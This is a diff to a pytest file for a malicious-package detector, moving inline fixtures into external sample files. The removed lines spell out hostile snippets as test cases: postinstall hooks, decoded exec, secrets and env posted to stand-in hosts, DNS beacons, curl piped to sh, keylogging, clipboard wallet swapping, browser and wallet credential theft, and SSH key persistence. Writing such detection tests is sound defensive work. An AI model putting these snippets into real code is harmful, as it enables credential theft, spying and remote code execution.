@@ -12,9 +12,9 @@ from pathlib import Path
 
 import pytest
 
-from policies.loader import load_policy
+from policies.loader import load_policy, load_ruleset
+from tests.fixtures.samples import cases, sample
 from worker.core.precheck import run_precheck, unglue_escapes
-from worker.core.ruleset import load_ruleset
 
 POLICY = load_policy("malicious-package")
 INJECTION = load_policy("prompt-injection")
@@ -24,81 +24,13 @@ DIFF_ARGUES_BACK = (
     Path(__file__).resolve().parents[2] / "policies" / "examples" / "packages" / "diff-argues-back.diff"
 ).read_bytes()
 
-CLINEJECTION = b"""diff --git a/package.json b/package.json
---- a/package.json
-+++ b/package.json
-@@ -1,7 +1,10 @@
- {
-   "name": "cline",
-   "version": "2.3.0",
-+  "scripts": {
-+    "postinstall": "npm install -g openclaw@latest"
-+  },
-   "bin": {
-     "cline": "bin/cline"
-   },
-"""
+CLINEJECTION = sample("malicious-package", "clinejection.diff")
 
-VERSION_BUMP = b"""diff --git a/package.json b/package.json
---- a/package.json
-+++ b/package.json
-@@ -1,6 +1,6 @@
- {
-   "name": "left-pad",
--  "version": "1.2.3",
-+  "version": "1.2.4",
-   "main": "index.js",
-   "license": "WTFPL"
-diff --git a/CHANGELOG.md b/CHANGELOG.md
---- a/CHANGELOG.md
-+++ b/CHANGELOG.md
-@@ -1,3 +1,7 @@
- # Changelog
-+
-+## 1.2.4
-+
-+- Pad correctly when the input is an empty string.
-"""
+VERSION_BUMP = sample("malicious-package", "version-bump.diff")
 
-PLATFORM_BINARY = b"""diff --git a/package.json b/package.json
---- a/package.json
-+++ b/package.json
-@@ -3,6 +3,14 @@
-   "version": "0.21.5",
-   "main": "lib/main.js",
-+  "scripts": {
-+    "postinstall": "node install.js"
-+  },
-+  "optionalDependencies": {
-+    "@esbuild/linux-x64": "0.21.5",
-+    "@esbuild/darwin-arm64": "0.21.5",
-+    "@esbuild/win32-x64": "0.21.5"
-+  },
-diff --git a/install.js b/install.js
-new file mode 100644
---- /dev/null
-+++ b/install.js
-@@ -0,0 +1,8 @@
-+const fs = require("fs");
-+const path = require("path");
-+const { execFileSync } = require("child_process");
-+const pkg = `@esbuild/${process.platform}-${process.arch}`;
-+const binPath = require.resolve(`${pkg}/bin/esbuild`);
-+execFileSync(binPath, ["--version"], { stdio: "pipe" });
-+fs.copyFileSync(binPath, path.join(__dirname, "bin", "esbuild"));
-"""
+PLATFORM_BINARY = sample("malicious-package", "platform-binary.diff")
 
-README_APT = b"""diff --git a/README.md b/README.md
---- a/README.md
-+++ b/README.md
-@@ -1,3 +1,9 @@
- # lxml-tools
-+
-+## Installation
-+
-+    sudo apt-get install -y libxml2-dev libxslt1-dev
-+    pip install lxml-tools
-"""
+README_APT = sample("malicious-package", "readme-apt.diff")
 
 
 def lockfile_diff(entries: int = 200) -> bytes:
@@ -278,23 +210,7 @@ def test_shipped_ruleset_is_valid():
     assert sum(rule.scope == "added" for rule in rules) > len(rules) // 2
 
 
-REFLECTIVE_AND_DECODED_COMMANDS = [
-    ("index.js", "const h = Reflect.get(os, 'hostname')();", "mp.exec.js-reflect-core"),
-    (
-        "index.js",
-        "Object.getOwnPropertyDescriptor(child_process, 'exec').value('id');",
-        "mp.exec.js-reflect-core",
-    ),
-    ("index.js", "os[Object.keys(os).find(k => k === 'userInfo')]();", "mp.exec.js-reflect-core"),
-    (
-        "index.js",
-        "Object.entries(os).filter(([k]) => k === 'hostname')[0][1]();",
-        "mp.exec.js-reflect-core",
-    ),
-    ("index.js", "os['host' + 'name']();", "mp.exec.js-reflect-core"),
-    ("pkg/a.py", 'os.system(base64.b64decode("aWQ="))', "mp.exec.decoded-process"),
-    ("main.go", "c := exec.Command(string(decoded))", "mp.exec.decoded-process"),
-]
+REFLECTIVE_AND_DECODED_COMMANDS = cases("malicious-package", "reflective-and-decoded-commands.json")
 
 
 @pytest.mark.parametrize(
@@ -335,41 +251,7 @@ def test_guarddog_family_techniques_block_alone(path, body, rule):
     assert rule in {e.rule_id for e in result.evidence}
 
 
-DECODED_EXEC_AND_EXFIL = [
-    ("pkg/a.py", "exec(decode(blob))", "mp.exec.decoded-name"),
-    ("pkg/a.py", "eval(decryptedSource)", "mp.exec.decoded-name"),
-    ("main.go", 'os.Chmod("/tmp/agent", 0755)\nexec.Command("/tmp/agent").Run()', "mp.exec.chmod-run"),
-    ("pkg/run.py", "os.chmod(path, 0o755)\nsubprocess.Popen([path])", "mp.exec.chmod-run"),
-    (
-        "main.go",
-        'f, _ := os.OpenFile("/tmp/agent", os.O_CREATE|os.O_WRONLY, 0755)\nio.Copy(f, resp.Body)',
-        "mp.exec.go-save-download",
-    ),
-    (
-        "main.go",
-        'cmd := &exec.Cmd{Path: sh, Args: []string{sh, "-c", string(sDec)}}',
-        "mp.exec.go-decoded-cmd",
-    ),
-    (
-        "lib/pkg.rb",
-        "HTTParty.post(URL, body: ENV['AWS_SECRET_ACCESS_KEY'])",
-        "mp.exfil.secret-post-ruby-go",
-    ),
-    (
-        "main.go",
-        'http.Post("http://collector.example/x", "text/plain", body)',
-        "mp.exfil.secret-post-ruby-go",
-    ),
-    ("pkg/a.py", 'socket.gethostbyname_ex(f"{user}.collector.example")', "mp.beacon.dns-interpolated"),
-    ("pkg/a.py", 'dns_resolver.resolve(f"{data}.collector.example", "A")', "mp.beacon.dns-interpolated"),
-    ("main.go", 'net.LookupHost(encoded + ".collector.example")', "mp.beacon.dns-interpolated"),
-    ("pkg/a.py", "total = 1\u202e + 2", "mp.obfuscation.bidi-control"),
-    (
-        "src/a.js",
-        "if (isAdmin) {\u2067 /* end of check */ \u2069 return; }",
-        "mp.obfuscation.bidi-control",
-    ),
-]
+DECODED_EXEC_AND_EXFIL = cases("malicious-package", "decoded-exec-and-exfil.json")
 
 
 @pytest.mark.parametrize(
@@ -626,83 +508,7 @@ def test_weak_signals_across_a_large_release_do_not_add_up():
 # downloaded native library loaded, eval of a fetched body, a computed import, a credential file
 # read and sent, a clipboard swapped for a wallet address, keystrokes sent out, a dependency
 # fetched from an IP address or over plain http.
-SPEC_TECHNIQUES_THAT_BLOCK = [
-    (
-        "pkg/__init__.py",
-        "dll = os.path.join(os.environ['APPDATA'], 'version.dll')\n"
-        "urllib.request.urlretrieve('https://cdn.host.example/version.dll', dll)\nctypes.WinDLL(dll)",
-        "mp.exec.download-execute",
-    ),
-    (
-        "index.js",
-        "https.get('https://host.example/a.js', r => { let d = ''; r.on('data', c => d += c);"
-        " r.on('end', () => eval(d)); });",
-        "mp.exec.js-eval-fetched",
-    ),
-    (
-        "pkg/__init__.py",
-        "eval(compile(codecs.decode('vzcbeg bf', 'rot13'), '<x>', 'exec'))",
-        "mp.exec.decoded",
-    ),
-    (
-        "index.js",
-        "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
-        "require('https').request({ host: 'stats.host.example', path: '/t?x=' + t }).end();",
-        "mp.creds.file-sent",
-    ),
-    (
-        "pkg/clip.py",
-        "if re.match(r'^0x[a-fA-F0-9]{40}$', pyperclip.paste()):\n"
-        "    pyperclip.copy('0x7a3B5c9E1f2D4a6B8c0E2f4A6b8C0d2E4f6A8b0C')",
-        "mp.spy.clipper",
-    ),
-    (
-        "pkg/k.py",
-        "from pynput import keyboard\ndef on_press(k):\n    requests.post('https://logs.host.example/k', data=str(k))\n"
-        "keyboard.Listener(on_press=on_press).start()",
-        "mp.spy.keylog-sent",
-    ),
-    (
-        "package.json",
-        '{ "name": "app", "dependencies": { "util2": "http://203.0.113.9/util2.tgz" } }',
-        "mp.dep.insecure-url",
-    ),
-    (
-        "index.js",
-        "fetch('https://collector.host.example/v2', { method: 'POST', body: JSON.stringify(process.env) });",
-        "mp.creds.env-body",
-    ),
-    (
-        "lib/s.js",
-        "const p = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data');\n"
-        "fs.copyFileSync(p, os.tmpdir() + '/ld');",
-        "mp.creds.browser-db",
-    ),
-    (
-        "ext/foo/extconf.rb",
-        "require 'mkmf'\nsystem(\"curl -s https://host.example/i.sh | sh\")\ncreate_makefile('foo')",
-        "mp.hook.extconf-exec",
-    ),
-    (
-        "install.js",
-        "fs.writeFileSync('/tmp/.s.sh', '#!/bin/sh\\ncurl -s http://host.example/a | sh\\n', { mode: 0o755 });\n"
-        "execSync('/tmp/.s.sh');",
-        "mp.exec.write-mode-run",
-    ),
-    (
-        "lib/w.js",
-        "const dir = path.join(process.env.APPDATA, 'Exodus', 'exodus.wallet');\n"
-        "const files = fs.readdirSync(dir).map(f => fs.readFileSync(path.join(dir, f)));\n"
-        "require('axios').post('https://w.host.example/u', { files });",
-        "mp.creds.file-sent",
-    ),
-    (
-        "pkg/__init__.py",
-        "with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
-        "    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@y\\n')",
-        "mp.persistence.ssh-key",
-    ),
-]
+SPEC_TECHNIQUES_THAT_BLOCK = cases("malicious-package", "spec-techniques-that-block.json")
 
 
 @pytest.mark.parametrize(("path", "body", "rule"), SPEC_TECHNIQUES_THAT_BLOCK)
